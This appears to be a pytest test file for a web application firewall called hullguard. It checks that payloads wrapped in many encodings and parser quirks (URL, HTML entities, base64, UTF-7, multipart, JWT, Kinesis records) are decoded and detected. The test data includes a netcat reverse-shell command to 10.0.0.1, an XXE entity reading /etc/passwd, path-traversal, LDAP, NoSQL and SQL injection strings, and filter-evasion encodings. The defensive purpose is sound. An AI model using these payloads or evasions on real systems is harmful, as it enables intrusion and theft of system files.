"""Encodings and evasions: the engine hands the detector the decoded payload, whatever the wrapping."""

from __future__ import annotations

import base64
import gzip
import hashlib
import html as stdlib_html
import json
import random
from typing import Any
from urllib.parse import quote

import pytest
from fw_helpers import FIXTURES, SQLI, TEST_DETECTORS, XSS, views_scanned
from hypothesis import given, settings
from hypothesis import strategies as st

from hullguard.firewall import Firewall
from hullguard.firewall.decoders import b64, fold, form, graphql, html, jsescape, kpl, multipart, unicode, url, xml
from hullguard.firewall.decoders import gzip as gz
from hullguard.firewall.decoders.overlong import bytes_to_text, fix_overlong

FW = Firewall(detectors=TEST_DETECTORS)


def _query(value: str) -> dict[str, Any]:
    return {
        "resource": "/",
        "path": "/",
        "httpMethod": "GET",
        "requestContext": {},
        "queryStringParameters": {"q": value},
    }


def _full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


ENCODED = {
    "url": quote(SQLI),
    "double url": quote(quote(SQLI)),
    "triple url": quote(quote(quote(SQLI))),
    "plus for space": quote(SQLI).replace("%20", "+"),
    "iis %u": "".join(f"%u{ord(c):04x}" for c in SQLI),
    "html decimal entities": "".join(f"&#{ord(c)};" for c in SQLI),
    "html hex entities without semicolon": "".join(f"&#x{ord(c):x}" for c in SQLI),
    "html named entities": XSS.replace("<", "&lt;").replace(">", "&gt;"),
    "js \\x escapes": "".join(f"\\x{ord(c):02x}" for c in SQLI),
    "js \\u escapes": "".join(f"\\u{ord(c):04x}" for c in XSS),
    "js \\u{} escapes": "".join(f"\\u{{{ord(c):x}}}" for c in XSS),
    "full-width unicode": _full_width(XSS),
    "zero-width characters": "<scr\u200bipt>alert(1)</script>",
    "url then html": quote("&lt;script&gt;alert(1)"),
    "base64 guessed": base64.b64encode(XSS.encode()).decode(),
    "url-safe base64 guessed": base64.urlsafe_b64encode(b"??" + XSS.encode()).decode(),
    "json in a string": json.dumps({"inner": SQLI}),
    "json in json in a string": json.dumps({"a": json.dumps({"b": SQLI})}),
    "url-encoded json": quote(json.dumps({"a": SQLI})),
    "sql comment split keyword": "1'/**/OR/**/'1'='1",
}


@pytest.mark.parametrize("name", sorted(ENCODED))
def test_encoded_payload_is_decoded_and_found(name: str) -> None:
    verdict = FW.inspect(_query(ENCODED[name]))
    assert [f.location for f in verdict.findings if f.attack in ("sqli", "xss")], (name, verdict.findings)
    assert verdict.findings[0].location.startswith("queryStringParameters.q")


def test_overlong_utf8_and_percent_decoding() -> None:
    assert fix_overlong(b"\xc0\xae\xc0\xae\xc0\xaf") == b"../"
    assert fix_overlong(b"\xe0\x80\xae") == b"."
    assert url.decode("%c0%ae%c0%ae%c0%afetc") == "../etc"
    assert bytes_to_text(b"caf\xe9") == "café"  # not UTF-8: Latin-1, not an exception
    assert url.decode("no encoding here") is None
    assert url.decode("a+b", plus=True) == "a b"
    assert url.decode("%zz%4") is None  # malformed escapes stay as they are


def test_text_decoders_return_none_when_nothing_changes() -> None:
    assert jsescape.decode("plain") is None
    assert unicode.decode("ascii only") is None
    assert fold.decode("nothing to fold") is None
    assert fold.decode("UN/**/ION SEL/**/ECT") == "UNION SELECT"
    assert fold.decode("c'a't /etc/passwd") == "cat /etc/passwd"
    assert fold.decode("cat${IFS}/etc/passwd") == "cat /etc/passwd"
    assert fold.decode('c""at') == "cat" and fold.decode("w'h'o'am'i") == "whoami"
    assert fold.decode("Jane O'Neil") is None  # one apostrophe is English, not shell quoting


def test_base64_guess_and_truncation() -> None:
    assert b64.looks_like("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")
    assert not b64.looks_like("0123456789abcdef0123456789abcdef")  # one-case hex digest
    assert not b64.looks_like("short")
    assert b64.looks_like("dXNlcj0nIE9SIDE9MS0t")  # standard alphabet
    assert b64.looks_like("YqiWgKsxJPV3-_VUn2Kt8wG0cDx4rE5mPl_Q9xw0BlvHrdaDDTMnNQ==")  # URL-safe (a CloudFront id)
    assert b64.looks_like("ab+/CD9ab+/CD9ab+/CD9==") is False  # three "=" (and a length of 23)
    assert not b64.looks_like("ab+cd-EFgh+ij/KL")  # both alphabets: neither
    assert not b64.looks_like("abcdEFGH===ijklm")  # "=" only at the end
    assert not b64.looks_like("abcdEFGHijklmnoé")  # beyond ASCII
    assert not b64.looks_like("abcd EFGH ijkl+/")  # blanks
    assert b64.decode("aGVsbG8gd29ybGQ", 100) == b"hello world"  # missing padding
    assert not b64.decode("!!!!", 100)  # nothing of the base64 alphabet: nothing decoded
    assert b64.as_text(b"\x89PNG\r\n\x1a\n\x00\x00") is None


def test_gzip_bomb_is_cut_at_the_budget() -> None:
    bomb = gzip.compress(b"A" * 5_000_000)
    out, problem = gz.decompress(bomb, 1000)
    assert len(out) == 1000 and "budget" in problem
    out, problem = gz.decompress(bomb[: len(bomb) // 2], 10_000_000)
    assert problem == "truncated compressed data" and len(out) > 0
    out, problem = gz.decompress(b"\x1f\x8bnot really gzip", 1000)
    assert out == b"" and "corrupt" in problem


def test_structure_decoders() -> None:
    assert form.looks_like("a=1&b=2") and not form.looks_like("hello world") and not form.looks_like("=1")
    assert form.parse("a=1&b=x%27y&c") == [("a", "1"), ("b", "x%27y"), ("c", "")]
    body = (
        '--B\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n'
        "Content-Type: text/plain\r\n\r\nhi\r\n--B--"
    )
    parts, cut = multipart.parse(body, "B")
    read = [(p.names, p.filenames, p.content_type, p.content) for p in parts]
    assert read == [(["f"], ["a.txt"], "text/plain", "hi")]
    assert not cut
    assert multipart.boundaries("multipart/form-data; boundary=----abc") == ["----abc"]
    assert xml.parts('<?xml version="1.0"?><a x="1"><b>text</b><![CDATA[raw]]></a>') == [
        ("a@x", "1"),
        ("b", "text"),
        ("a", "raw"),
    ]
    assert graphql.read('query { a(x: "one", y: """two""") }').literals == ["one", "two"]


@pytest.mark.parametrize(
    ("document", "is_graphql"),
    [
        # GraphQL: punctuators, spreads, variables, directives, numbers, commas, comments of any text
        ('query Q($id: ID!, $n: Int = -1.5e+3) { a(id: $id) @include(if: true) { ...F } }', True),
        ("mutation M { add(input: {tags: [\"a\", \"b<c>\"]}) { id } } # it's <fine> here; /x", True),
        ('{ search(q: """it\'s <b>bold</b>; 1/2""") { hits } }', True),
        # what no GraphQL token can hold, outside literals and comments
        ("<script>alert(1)</script>", False),
        ("1' OR '1'='1' --", False),
        ("query Q { a }\n/etc/passwd", False),
        ("query Q { a(x: 1) } ; id", False),
        ("query Q { na\u00efve }", False),  # names are ASCII
        # a literal cap reached with text left: that text is unread, so the document is read whole
        ('{ a(' + '"" ' * graphql.MAX_LITERALS + "x: 1) }", False),
    ],
)
def test_graphql_documents_are_told_from_text_a_parser_would_reject(document: str, is_graphql: bool) -> None:
    assert graphql.read(document).is_graphql is is_graphql


def test_multipart_file_name_is_scanned() -> None:
    event = {
        "version": "2.0",
        "routeKey": "POST /upload",
        "rawPath": "/upload",
        "requestContext": {"http": {"method": "POST"}},
        "headers": {"content-type": "multipart/form-data; boundary=b1"},
        "body": f'--b1\r\nContent-Disposition: form-data; name="file"; filename="{SQLI}.png"\r\n\r\nPNG\r\n--b1--',
    }
    verdict = FW.inspect(event)
    assert [f.location for f in verdict.findings] == ["body.file.filename"]


def _upload(body: str, content_type: str) -> dict[str, Any]:
    return {
        "version": "2.0",
        "routeKey": "POST /upload",
        "rawPath": "/upload",
        "requestContext": {"http": {"method": "POST"}},
        "headers": {"content-type": content_type} if content_type else {},
        "body": body,
    }


# Parser differentials: the firewall reads a multipart body as the parsers behind a function read it
# (python-multipart, Werkzeug, Starlette, busboy, the email package), or an attack goes through the gap.


def test_content_type_parameters_are_read_as_parsers_read_them() -> None:
    assert multipart.parameters('multipart/form-data; boundary = "a b"; charset=UTF-7') == [
        ("boundary", "a b"),
        ("charset", "UTF-7"),
    ]
    assert multipart.parameters('form-data; filename="a\\"b\\\\c"; name=x') == [("filename", 'a"b\\c'), ("name", "x")]
    # a longer name ending in "boundary", or one inside a quoted value, is no boundary
    assert multipart.boundaries('multipart/form-data; xboundary=fake; boundary=real') == ["real"]
    assert multipart.boundaries('multipart/form-data; x="boundary=fake"; boundary=real') == ["real"]
    assert multipart.boundaries("multipart/form-data; boundary=one; boundary=two") == ["one", "two"]
    assert multipart.media_type('Application/JSON; x="multipart/"') == "application/json"
    assert multipart.charset("text/plain; charset=ISO-8859-1") == "iso-8859-1"
    assert multipart.parameters('a; b="unterminated') == [("b", "unterminated")]


def test_multipart_delimiters_count_only_at_the_start_of_a_line() -> None:
    body = (
        '--x\r\nContent-Disposition: form-data; name="note"\r\n\r\nsee --x-- there\r\n'
        '--x\r\nContent-Disposition: form-data; name="q"\r\n\r\nsecond\r\n--x--\r\nepilogue'
    )
    parts, _ = multipart.parse(body, "x")
    assert [(p.names, p.content) for p in parts] == [(["note"], "see --x-- there"), (["q"], "second")]


def test_multipart_part_headers_name_files_every_way_a_parser_reads() -> None:
    head = (
        "--b\r\nContent-Disposition: form-data; name=f; filename=\"a.png\"; filename*=UTF-8''%3Cscript%3E.png\r\n"
        "Content-Transfer-Encoding: BASE64\r\n\r\nx\r\n--b--"
    )
    [part], _ = multipart.parse(head, "b")
    assert part.names == ["f"] and part.filenames == ["a.png", "<script>.png"]
    assert part.transfer_encoding == "base64"


def test_a_multipart_body_of_too_many_parts_or_a_padded_header_is_cut_and_the_cut_reported() -> None:
    def form(fields: int) -> str:
        parts = (f'--b\r\nContent-Disposition: form-data; name="f{i}"\r\n\r\nv{i}\r\n' for i in range(fields))
        return "".join(parts) + "--b--\r\n"

    parts, cut = multipart.parse(form(1200), "b")
    assert len(parts) == multipart.MAX_PARTS and cut
    verdict = FW.inspect(_upload(form(1200), "multipart/form-data; boundary=b"))
    assert verdict.budget_exhausted and {f.attack for f in verdict.findings} <= {"denial-of-service"}
    parts, cut = multipart.parse(form(multipart.MAX_PARTS), "b")
    assert len(parts) == multipart.MAX_PARTS and not cut  # the close delimiter right after the last part read
    padded = '--b\r\nContent-Disposition: form-data; name="f"' + '; a="\\""' * 50_000 + "\r\n\r\nv\r\n--b--"
    parts, cut = multipart.parse(padded, "b")  # a header padded to spend Python time outside the budget
    assert cut and [p.names for p in parts] == [["f"]]


def _form_field(name: str, value: str, headers: str = "") -> str:
    return f'--b0\r\nContent-Disposition: form-data; name="{name}"\r\n{headers}\r\n{value}\r\n'


B64_SQLI = base64.b64encode(SQLI.encode()).decode()
UTF16_PART = "Content-Type: text/plain; charset=utf-16le\r\n"
MP = "multipart/form-data; boundary=b0"
UTF7_XSS = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"  # UTF-7 for <script>alert(1)</script>
RFC5987_XSS = "UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E"
QP_XSS = XSS.replace("<", "=3C").replace(">", "=3E").replace("=", "=3D").replace("=3D3", "=3")


@pytest.mark.parametrize(
    ("content_type", "body", "location"),
    [
        # a content type that only mentions multipart, over the JSON every framework parses
        ('application/json; boundary=zzz; x="multipart/"', json.dumps({"q": SQLI}), "body.q"),
        # a multipart type over a JSON body: json.loads(event["body"]) ignores the type
        ("multipart/form-data; boundary=zzz", json.dumps({"q": SQLI}), "body.q"),
        # the second of two boundaries, which most parsers take
        ("multipart/form-data; boundary=fake; boundary=b0", _form_field("q", SQLI) + "--b0--", "body.q"),
        ("multipart/form-data; xboundary=fake; boundary=b0", _form_field("q", SQLI) + "--b0--", "body.q"),
        # blanks around "=", which python-multipart, Starlette and the email package accept
        ("multipart/form-data; boundary = b0", _form_field("q", SQLI) + "--b0--", "body.q"),
        # a delimiter-like text inside an earlier part does not end the body
        (MP, _form_field("n", "see --b0-- end") + _form_field("q", SQLI) + "--b0--", "body.q"),
        # transfer encodings that python-multipart and the email package undo
        (MP, _form_field("q", B64_SQLI, "Content-Transfer-Encoding: base64\r\n"), "body.q"),
        (MP, _form_field("q", QP_XSS, "Content-Transfer-Encoding: quoted-printable\r\n"), "body.q"),
        # a file name as RFC 5987 writes it, with escaped quotes, or unquoted
        (
            MP,
            f"--b0\r\nContent-Disposition: form-data; name=f; filename*={RFC5987_XSS}\r\n\r\nx\r\n",
            "body.f.filename",
        ),
        (
            MP,
            '--b0\r\nContent-Disposition: form-data; name=f; filename="a\\"<script>alert(1)</script>"\r\n\r\nx\r\n',
            "body.f.filename",
        ),
        (
            MP,
            f"--b0\r\nContent-Disposition: form-data; name=f; filename={SQLI}\r\n\r\nx\r\n",
            "body.f.filename",
        ),
        # a declared charset that body-parser (UTF-7 JSON) or Starlette (any codec, for fields) honours
        ("application/json; charset=utf-7", json.dumps({"q": UTF7_XSS}), "body.q"),
        ("multipart/form-data; boundary=b0; charset=utf-7", _form_field("q", UTF7_XSS), "body.q"),
        (
            MP,
            _form_field("q", SQLI.encode("utf-16-le").decode("latin-1"), UTF16_PART),
            "body.q",
        ),
    ],
)
def test_a_body_is_read_as_the_parsers_behind_a_function_read_it(content_type: str, body: str, location: str) -> None:
    found = {f.location for f in Firewall().inspect(_upload(body, content_type)).findings}
    assert location in found, found


def test_a_multipart_body_in_a_declared_charset_is_read_in_it_and_its_benign_twin_passes() -> None:
    """Starlette decodes each field with the request's charset, any Python codec: EBCDIC among them."""
    def event(value: str) -> dict[str, Any]:
        raw = _form_field("q", "\x00").encode().replace(b"\x00", value.encode("cp500")) + b"--b0--\r\n"
        ev = _upload(base64.b64encode(raw).decode(), "multipart/form-data; boundary=b0; charset=cp500")
        ev["isBase64Encoded"] = True
        return ev

    assert "body.q" in {f.location for f in Firewall().inspect(event(XSS)).findings}
    assert Firewall().inspect(event("hello world, it is 42")).findings == []
    clean = _form_field("q", "Caf+AOk- au lait, 2+-2 is 4") + "--b0--"  # UTF-7 for "Café au lait, 2+2 is 4"
    assert Firewall().inspect(_upload(clean, "multipart/form-data; boundary=b0; charset=utf-7")).findings == []


@pytest.mark.parametrize("value", ["elt(5953=5953,1)", "admin*)((|userPassword=*)", "'=0--+"])
def test_a_value_with_an_equals_sign_is_not_split_like_a_form_unless_it_is_declared_one(value: str) -> None:
    """A multipart field without a content type is a value as typed; a body whose only sign of being
    a form is its shape (no content type) is also scanned whole. Split at "=" alone, "elt(5953=5953,1)"
    became two harmless halves."""
    fw = Firewall()
    field = f'--b1\r\nContent-Disposition: form-data; name="comment"\r\n\r\n{value}\r\n--b1--'
    found = fw.inspect(_upload(field, "multipart/form-data; boundary=b1")).findings
    assert "body.comment" in {f.location for f in found}, found
    assert "body" in {f.location for f in fw.inspect(_upload(value, "")).findings}
    declared = fw.inspect(_upload("name=alice&note=" + quote(value), "application/x-www-form-urlencoded"))
    assert "body.note" in {f.location for f in declared.findings}


def test_a_form_fields_base64_value_is_decoded_as_a_query_parameters_is() -> None:
    """nemesida's WAF tests send "param=JyB1bmlvbi..." in a form body as in a query string; the padding
    arrives percent-encoded. Base64 of plain text decodes to plain text, which stays unreported."""
    attack = quote(base64.b64encode(b"' union select 1,2,3,4,5,6,7,8,9,0,11").decode())
    form_type = "application/x-www-form-urlencoded"
    fw = Firewall()
    found = fw.inspect(_upload(f"a=1&param={attack}", form_type)).findings
    assert [(f.location, f.attack) for f in found] == [("body.param", "sqli")], found
    plain = quote(base64.b64encode(b"the quick brown fox jumps over it").decode())
    assert fw.inspect(_upload(f"a=1&param={plain}", form_type)).findings == []


def _with_cookie(cookie: str) -> dict[str, Any]:
    event = _query("1")
    event["headers"] = {"Cookie": cookie}
    return event


@pytest.mark.parametrize(
    ("cookie", "family"),
    [("admin*)((|userPassword=*)", "ldap"), ("';id;'", "cmdi"), ("$where: '1 == 1'", "nosql")],
)
def test_a_cookie_header_that_is_no_list_of_cookies_is_also_read_whole(cookie: str, family: str) -> None:
    """Split at ";" and "=" an attack pasted as the whole header falls into harmless pieces; a header
    whose parts are not all ``token=value`` is read whole as well."""
    assert family in {f.attack for f in Firewall().inspect(_with_cookie(cookie)).findings}


def test_well_formed_cookie_headers_are_read_as_cookies_only() -> None:
    from hullguard.firewall.decoders import cookies

    for header in ("session=abc; _ga=GA1.2.3.4", "__Host-id=x; AMCV_0D15%40AdobeOrg=1%7C2", "a=1"):
        assert cookies.well_formed(cookies.parse(header)), header
    for header in ("cart[1]=2", "a=1; b", "x y=1", "';id;'"):
        assert not cookies.well_formed(cookies.parse(header)), header
    views = [text for _, text in views_scanned(FW, _with_cookie("session=abc; theme=dark"))]
    assert "session=abc; theme=dark" not in views and "abc" in views


def test_nosql_operator_in_a_json_key_is_scanned_as_a_key() -> None:
    event = {"resource": "/", "httpMethod": "POST", "requestContext": {}, "body": '{"user": {"$ne": null}}'}
    verdict = FW.inspect(event)
    assert [(f.attack, f.location) for f in verdict.findings] == [("nosql", "body.user.$ne")]


def test_form_field_names_are_scanned_as_keys() -> None:
    event = {"resource": "/", "httpMethod": "POST", "requestContext": {}, "body": "user%5B%24ne%5D=1"}
    event["headers"] = {"Content-Type": "application/x-www-form-urlencoded"}
    verdict = FW.inspect(event)
    assert verdict.findings and verdict.findings[0].attack == "nosql"


JSON_EDGES = [
    "",
    " ",
    "{}",
    ' \n{"a": [1, {"b": null}]}\r\n',
    '{"a": 1} trailing',
    "[1, 2",
    '"just a string"',
    "NaN",
    "\ufeff{}",
    '{"a": "\x01"}',
    '{"a": 1}\x0b',
    '{"a": 1, "a": 2}',
    "[1]]",
    "[" * 100_000 + "]" * 100_000,
]


@pytest.mark.parametrize("text", JSON_EDGES, ids=range(len(JSON_EDGES)))
def test_json_in_strings_is_parsed_exactly_like_json_loads(text: str) -> None:
    """``jsonstr.parse`` calls the C scanner directly; it must accept and refuse what ``json.loads`` does,
    and tell nesting too deep for it (``TOO_DEEP``) from text that is not JSON."""
    from hullguard.firewall.decoders import jsonstr

    try:
        expected = repr(json.loads(text))
    except ValueError:
        expected = "FAILED"
    except RecursionError:
        expected = "TOO_DEEP"
    got = jsonstr.parse(text)
    answer = {id(jsonstr.FAILED): "FAILED", id(jsonstr.TOO_DEEP): "TOO_DEEP"}.get(id(got))
    assert (answer or repr(got)) == expected


def test_declared_base64_bytes_become_text_the_way_a_lenient_server_reads_them() -> None:
    assert b64.to_text("héllo".encode(), declared=False) == "héllo"  # UTF-8 text
    assert b64.to_text("a \ufffd b".encode(), declared=False) == "a \ufffd b"  # a replacement character, spelled
    assert b64.to_text(b"\xef\xbf\xbd \xff", declared=False) is None  # one spelled, one invalid byte
    assert b64.to_text(bytes(range(0x80, 0xA0)) * 2, declared=False) is None  # not UTF-8 (a random id's bytes)
    assert b64.to_text(b"caf\xe9 au lait", declared=True) == "café au lait"  # not UTF-8: Latin-1
    assert b64.to_text(b"caf\xe9 au lait", declared=False) is None  # only declared fields get that
    assert b64.to_text(b"\xc0\xae\xc0\xae\xc0\xafetc", declared=True) == "../etc"  # overlong UTF-8
    assert b64.to_text(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", declared=True) is None  # binary


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
def test_a_json_body_in_utf16_or_utf32_is_read_as_json_loads_reads_its_bytes(encoding: str) -> None:
    """Python's ``json.loads(bytes)`` and Node's body parsers read UTF-16 and UTF-32 (told by a byte-order
    mark or the zero bytes of the first characters); read as UTF-8, the attack hid between zeros."""
    body = json.dumps({"note": SQLI, "name": "Ann"}).encode(encoding)
    assert json.loads(body) == {"note": SQLI, "name": "Ann"}  # what the handler reads
    ev = json.loads((FIXTURES / "powertools" / "apiGatewayProxyEvent.json").read_text())
    ev.update(body=base64.b64encode(body).decode(), isBase64Encoded=True)
    found = {(f.attack, f.location) for f in Firewall(detectors=TEST_DETECTORS).inspect(ev).findings}
    assert ("sqli", "body.note") in found
    ev["body"] = base64.b64encode(json.dumps({"note": "fine", "name": "Ann"}).encode(encoding)).decode()
    assert Firewall().inspect(ev).findings == []


def test_only_text_is_read_as_utf16_or_utf32() -> None:
    assert b64.wide_unicode("plain".encode("utf-16")) == "plain"
    assert b64.wide_unicode(b"plain") is None  # no zeros among the first four bytes, no byte-order mark
    assert b64.wide_unicode(b"\x00\x00\x01\x00" + bytes(range(256)) * 4) is None  # binary with zeros
    assert b64.wide_unicode("x".encode("utf-16-le")[:1]) is None  # too short to tell
    assert b64.to_text("ab".encode("utf-16-le"), declared=False) is None  # only declared fields get that


def test_marker_checks_agree_with_the_definition_of_a_marker() -> None:
    """The fast checks (isascii and one find per marker) decide which strings are decoded at all:
    ``_has_marker`` for one string, ``_marked`` for the strings a flush joins. A marker is any
    character beyond ASCII or one of % & \\ $ * ' " +."""
    from hullguard.firewall.inspection import _has_marker, _marked

    def marked(text: str) -> bool:
        return any(ord(char) > 127 or char in "%&\\$*'\"+" for char in text)

    samples = [chr(c) for c in range(256)] + ["plain words 123", "a%b", "x\u200by", "ｓｅｌｅｃｔ", "", "\U0001f600"]
    samples += [f"abc{c}def" for c in "%&\\$*'\"+<>;|`"]
    for text in samples:
        assert _has_marker(text) == marked(text), repr(text)
    rng = random.Random(7)
    pieces = ["plain", " ", "%", "&", "\\", "$", "*", "'", '"', "é", "\u200b", "+", "<", "\n", ""]
    for _ in range(3000):
        texts = ["".join(rng.choice(pieces) for _ in range(rng.randint(0, 4))) for _ in range(rng.randint(1, 8))]
        expected = [index for index, text in enumerate(texts) if marked(text)]
        assert _marked(texts, "\n".join(texts)) == expected, texts


@pytest.mark.parametrize(
    ("value", "family"),
    [
        ("&&+ipconfig+/all", "cmdi"),
        ("|+nc+-e+/bin/sh+10.0.0.1+4444", "cmdi"),
        ("<script+src=//3334957647/1>", "xss"),
        ('<!DOCTYPE+foo+[<!ENTITY+xxe+SYSTEM+"file:///etc/passwd">]><foo>&xxe;</foo>', "xxe"),
        ("';return+'a'=='a'+&&+''=='", "nosql"),
    ],
)
def test_plus_for_space_is_read_as_a_back_end_that_decodes_once_more_would(value: str, family: str) -> None:
    """API Gateway has form-decoded the query: a "+" left in a value was sent as %2B, and a framework
    that decodes the value again turns it into the space the attack needs."""
    verdict = Firewall().inspect(_query(value))
    assert family in {f.attack for f in verdict.findings}, verdict.findings


def test_a_plus_view_is_made_only_where_it_can_matter() -> None:
    """The spaced view is made for short values and for values of up to 1 KB with punctuation
    injections need; not for a long base64 run (the common "+" in benign traffic) or a huge blob."""
    blob = "W7N7Uu94bq+Vmrg+pkkKvFWo9bYb3dBki+O8Q8E8rmnYnPcFH4uEenrVdt202b49QMdgOHJ2lPWvhAnrenUgf4hu+Jl+1YTe5JkTk"
    cases = [
        ("sort+by+price", True),
        ("x" * 200 + ";+id", True),
        (blob * 2, False),
        ("a;" + "b+c" * 400, False),
    ]
    for value, spaced in cases:
        views = [text for _, text in views_scanned(FW, _query(value))]
        assert (value.replace("+", " ") in views) == spaced, value[:40]
    clean = Firewall().inspect(_query("https://shop.example/c/women?srule=sort+by+price+high+to+low&start=0"))
    assert not clean.findings


def test_overlong_form_of_a_surrogate_does_not_stop_the_inspection() -> None:
    """``%F0%8D%A0%80`` spells U+D800 in four bytes; a surrogate has no UTF-8 form, and rewriting it
    raised, which ended the inspection: any payload after it went unseen in fail-open mode."""
    assert fix_overlong(b"a\xf0\x8d\xa0\x80b\xc0\xaf") == b"a\xf0\x8d\xa0\x80b/"
    verdict = FW.inspect(_query("%F0%8D%A0%80 " + SQLI))
    assert not verdict.error
    assert "sqli" in {f.attack for f in verdict.findings}
    sqs = {
        "Records": [
            {
                "eventSource": "aws:sqs",
                "body": SQLI,
                "messageAttributes": {"a": {"binaryValue": base64.b64encode(b"\xff\xf0\x8d\xa0\x80").decode()}},
            }
        ]
    }
    verdict = FW.inspect(sqs)
    assert not verdict.error and "sqli" in {f.attack for f in verdict.findings}


NOT_ASCII = [
    "José-1001", "Zoë Saldaña", "Łódź", "Ærøskøbing", "Ñandú", "Straße", "İstanbul", "ſelect",
    "Мария", "東京都", "😀 party", "e\u0301", "ｓｅｌｅｃｔ", "＜script＞alert(1)＜/script＞", "ﬁle", "½",
    "sel\u200bect", "\ufeffunion", "a\u00adb", "K\u212a", "№ 5", "x²", "Ⅻ", "Zoë's café & bar", "50% ＜b＞",
]


@pytest.mark.parametrize("text", NOT_ASCII)
def test_text_marked_only_beyond_ascii_gets_the_same_views_without_the_decoder_chain(text: str) -> None:
    from hullguard.firewall import inspection

    def views_of(value: str) -> list[tuple[str, str]]:
        event = {"resource": "/", "path": "/", "httpMethod": "POST", "requestContext": {"requestId": "r"},
                 "body": json.dumps({"name": value}), "headers": {"content-type": "application/json"}}
        return views_scanned(Firewall(), event)

    fast = views_of(text)
    original = inspection._has_ascii_marker
    inspection._has_ascii_marker = lambda value: True  # type: ignore[assignment]  # always the whole chain
    try:
        assert views_of(text) == fast
    finally:
        inspection._has_ascii_marker = original


# Pieces the standard library's reference parser reacts to: names that need no ";" and their neighbours,
# names that need one, numeric starts, the characters that end a name, and URL parameter text.
_REFERENCE_PIECES = [
    "&", "&amp", "&AMP", "&amp;", "&lt", "&copy", "&not", "&notin;", "&noti", "&frac12", "&sup2", "&Auml",
    "&colon;", "&NewLine;", "&#", "&#60", "&#x3c", "&#X3C;", "&#;", ";", "#", " ", "=", "x", "utm_source",
    "color_id", "1", "\t", "\n", "<", "é", "&CounterClockwiseContourIntegral;", "&zz;",
]


@given(st.lists(st.sampled_from(_REFERENCE_PIECES), max_size=12).map("".join))
@settings(max_examples=3000, deadline=None)
def test_html_decoding_answers_as_the_standard_library_does(text: str) -> None:
    # The check before html.unescape only skips texts it would return unchanged.
    expected = stdlib_html.unescape(text)
    assert html.decode(text) == (None if expected == text else expected)


@pytest.mark.parametrize(
    "url_value",
    [
        "https://www.example.com/catalog.php?id=19061&color_id=2177",
        "https://x.example/?utm_source=google&utm_medium=cpc&utm_campaign=spring&gclid=abc",
        "Pricing & Reviews | AT&T",
    ],
)
def test_url_parameters_are_no_references(url_value: str) -> None:
    assert html.decode(url_value) is None


def test_a_parameter_named_like_a_reference_that_needs_no_semicolon_is_decoded() -> None:
    # "&copy" needs no ";": outside an attribute a browser reads "?a=1&copy=2" as "?a=1©=2"
    assert html.decode("?a=1&copy=2") == "?a=1\u00a9=2"


# -- KPL aggregated Kinesis records -----------------------------------------------------------------
def _varint(number: int) -> bytes:
    out = b""
    while True:
        low, number = number & 0x7F, number >> 7
        if not number:
            return out + bytes([low])
        out += bytes([low | 0x80])


def _field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _aggregated(*datas: bytes, key: str = "user-17") -> bytes:
    """A KPL aggregated record as the producer library writes it: magic, AggregatedRecord, MD5."""
    body = _field(1, key.encode())
    for data in datas:
        body += _field(3, _varint(1 << 3) + _varint(0) + _field(3, data) + _field(4, _field(1, b"tag")))
    return kpl.MAGIC + body + hashlib.md5(body, usedforsecurity=False).digest()


def test_kpl_records_are_unpacked_as_the_consumer_reads_them() -> None:
    keys, records = kpl.unpack(_aggregated(b'{"q": 1}', gzip.compress(b"two")), 100)
    assert keys == ["user-17"]
    assert records == [b'{"q": 1}', gzip.compress(b"two")]
    assert kpl.unpack(_aggregated(*[b"x"] * 10), 3)[1] == [b"x"] * 3


@given(st.binary(max_size=300))
@settings(max_examples=300, deadline=None)
def test_kpl_unpacking_never_raises_on_any_bytes(tail: bytes) -> None:
    for data in (kpl.MAGIC + tail, _aggregated(tail)[: 4 + len(tail) // 2]):
        _, records = kpl.unpack(data, 100)
        assert sum(map(len, records)) <= len(data)


def test_an_attack_inside_a_kpl_aggregated_kinesis_record_is_found_in_its_user_record() -> None:
    ev = json.loads((FIXTURES / "powertools" / "kinesisStreamEvent.json").read_text())
    data = _aggregated(b'{"order": 42}', gzip.compress(json.dumps({"note": SQLI}).encode()), key=XSS)
    ev["Records"][0]["kinesis"]["data"] = base64.b64encode(data).decode()
    found = {(f.attack, f.location) for f in Firewall(detectors=TEST_DETECTORS).inspect(ev).findings}
    assert found == {
        ("sqli", "Records[0].kinesis.data.records[1].note"),
        ("xss", "Records[0].kinesis.data.partitionKeys[0]"),
    }
    clean = _aggregated(b'{"order": 42}', b"plain text")
    ev["Records"][0]["kinesis"]["data"] = base64.b64encode(clean).decode()
    assert Firewall().inspect(ev).findings == []


def _segment(claims: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")


def _token(header: dict[str, Any], payload: dict[str, Any]) -> str:
    return f"{_segment(header)}.{_segment(payload)}.c2lnbmF0dXJl"


def _with_header(name: str, value: str) -> dict[str, Any]:
    ev: dict[str, Any] = json.loads((FIXTURES / "powertools" / "apiGatewayProxyEvent.json").read_text())
    ev["headers"][name] = value
    ev["multiValueHeaders"][name] = [value]
    return ev


@pytest.mark.parametrize(
    ("header", "value", "location"),
    [
        # a payload a function decodes without verifying (DVSA's admin function hands it to jsonpickle)
        ("Authorization", "Bearer " + _token({"alg": "none"}, {"username": SQLI}), "payload.username"),
        ("Authorization", _token({"alg": "HS256"}, {"sub": "1", "name": XSS}), "payload.name"),
        # the header's key id, which a server uses as a path or a query to find its key
        ("Authorization", "Bearer " + _token({"alg": "HS256", "kid": "../../../../etc/passwd"}, {}), "header.kid"),
    ],
)
def test_a_json_web_tokens_header_and_payload_are_read(header: str, value: str, location: str) -> None:
    found = {f.location for f in Firewall().inspect(_with_header(header, value)).findings}
    assert f"headers.{header.lower()}.jwt.{location}" in found, found


def test_a_token_in_a_cookie_or_a_query_parameter_is_read_and_an_ordinary_one_passes() -> None:
    attack = _token({"alg": "RS256"}, {"sub": "1", "email": f"a@example.com{SQLI}"})
    found = {f.location for f in Firewall().inspect(_with_header("Cookie", f"theme=dark; id_token={attack}")).findings}
    assert "headers.cookie.id_token.jwt.payload.email" in found, found
